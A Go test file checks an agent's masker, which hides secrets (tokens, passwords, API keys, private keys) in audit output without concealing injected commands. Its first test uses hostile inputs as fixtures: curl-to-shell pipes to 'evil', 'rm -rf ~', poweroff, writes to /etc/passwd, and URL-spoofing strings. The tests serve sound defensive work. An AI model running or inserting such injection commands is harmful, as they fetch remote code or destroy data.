package agent

import (
	"encoding/json"
	"fmt"
	"strings"
	"testing"
)

// What could run, or says where a request goes, must not hide behind a mask that
// was made for secrets.
func TestMaskHidesNoCode(t *testing.T) {
	m := NewMasker()
	for text, shown := range map[string]string{
		`ls --token=x;curl${IFS}evil|sh`:                                      `;curl${IFS}evil|sh`,
		`ls --token abcd;reboot`:                                              `;reboot`,
		"A_TOKEN=abcd$(curl${IFS}evil|sh) ls":                                 "$(curl${IFS}evil|sh) ls",
		"A_TOKEN=`reboot` ls":                                                 "`reboot` ls",
		"token=abcd>/etc/passwd":                                              ">/etc/passwd",
		"true basic\n/usr/sbin/poweroff":                                      "/usr/sbin/poweroff",
		"echo token:\n/usr/sbin/poweroff":                                     "/usr/sbin/poweroff",
		"TOKEN= /usr/sbin/poweroff":                                           "/usr/sbin/poweroff",
		"bash -secret reboot":                                                 "reboot",
		"echo -----BEGIN PRIVATE KEY-----\nrm -rf ~\nls":                      "rm -rf ~\nls",
		"echo -----BEGIN PRIVATE KEY-----; rm x; # -----END PRIVATE KEY-----": "rm x;",
		"http://evil.example:80#@good.example":                                "evil.example:80#@good.example",
		"http://evil.example:80?@good.example":                                "evil.example:80?@good.example",
	} {
		if got, _ := m.Text(text); !strings.Contains(got, shown) {
			t.Errorf("%q is shown as %q, without %q", text, got, shown)
		}
	}
}

func TestMaskHidesSecrets(t *testing.T) {
	m := NewMasker("hunter2-canary")
	body := strings.Repeat("Ab1+/=xy", 8)
	for text, secret := range map[string]string{
		"x hunter2-canary y":                            "hunter2-canary",
		`curl -H "Authorization: Bearer abcdefgh12345"`: "abcdefgh12345",
		"password=s3cr3t!#%":                            "s3cr3t!#%",
		"password: s3cr3t":                              "s3cr3t",
		"db_password = s3cr3t":                          "s3cr3t",
		`{"api_key": "s3cr3t"}`:                         "s3cr3t",
		"--token s3cr3t":                                "s3cr3t",
		"-password s3cr3t":                              "s3cr3t",
		"postgres://u:s3cr3t@host/db":                   "s3cr3t",
		"xoxb-12345678-abcdefgh":                        "12345678",
		"sk-ant-abcdefghijklmnop":                       "abcdefghijklmnop",
		"AKIAABCDEFGHIJKLMNOP":                          "ABCDEFGHIJKLMNOP",
		"eyJhbGciOiJ9.eyJzdWIiOiJ9.c2lnbmF":             "eyJzdWIiOiJ9",
		"ghp_abcdefghijklmnopqrst":                      "abcdefghijklmnopqrst",
		"-----BEGIN RSA PRIVATE KEY-----\n" + body + "\n" + body + "\nAb1=\n-----END RSA PRIVATE KEY-----":       "Ab1",
		`-----BEGIN PRIVATE KEY-----\n` + body + `\nAb1=\n-----END PRIVATE KEY-----`:                             "Ab1",
		"-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0A\n\n" + body + "\ncut": body,
	} {
		if got, n := m.Text(text); strings.Contains(got, secret) || n == 0 {
			t.Errorf("%q is shown as %q, %d masked", text, got, n)
		}
	}
}

// Rows: F99, T14, L126.
func TestMaskObject(t *testing.T) {
	m := NewMasker()
	for args, want := range map[string]string{
		`{"credentials":{"list":["one"],"value":"hunter2"}}`:                    `{"credentials":{"list":["[masked]"],"value":"[masked]"}}`,
		`{"sk-aaaaaaaaaaaaaaaaaaaa":"1","sk-bbbbbbbbbbbbbbbbbbbb":"2","x":"3"}`: `{"[masked]":"1","[masked] (2)":"2","x":"3"}`,
	} {
		if got, _ := m.Object(args); got != want {
			t.Errorf("%s is shown as %s, not as %s", args, got, want)
		}
	}
}

// A masked copy can be larger than arguments may be. It must still be the whole,
// and an object: the audit row is made of it.
func TestMaskedCopyOfLargeArguments(t *testing.T) {
	content := strings.Repeat("token=abcd ", 95_000)
	args, err := Canonical(fmt.Sprintf(`{"content":%q,"path":"a"}`, content))
	if err != nil {
		t.Fatal(err)
	}
	shown, n := NewMasker().Object(args)
	var members map[string]string
	if err := json.Unmarshal([]byte(shown), &members); err != nil || members["path"] != "a" || n != 95_000 {
		t.Fatalf("%d masked, %v: %.100s", n, err, shown)
	}
}

// A secret that would be cut in two is still masked, wherever it stands and
// however long the text is.
func TestMaskBeforeBounding(t *testing.T) {
	const secret, limit = "canary-0123456789-abcdefghij", 2000
	m := NewMasker(secret)
	for _, size := range []int{limit, 3 * limit, 60_000, 500_000} {
		for _, around := range []int{limit * 2 / 3, size - limit/3} {
			for at := max(0, around-len(secret)); at <= min(around, size); at++ {
				text := strings.Repeat("é", at) + secret + strings.Repeat(".", size-at)
				got := m.Bounded(text, limit)
				for i := range len(secret) - 6 {
					if strings.Contains(got, secret[i:i+6]) {
						t.Fatalf("size %d, secret at %d: %q of it is shown", size, at, secret[i:i+6])
					}
				}
				if n := len([]rune(got)); n > limit+100 {
					t.Fatalf("size %d: %d characters are left", size, n)
				}
			}
		}
	}
	if got := m.Bounded("short", limit); got != "short" {
		t.Errorf("a short text became %q", got)
	}
}
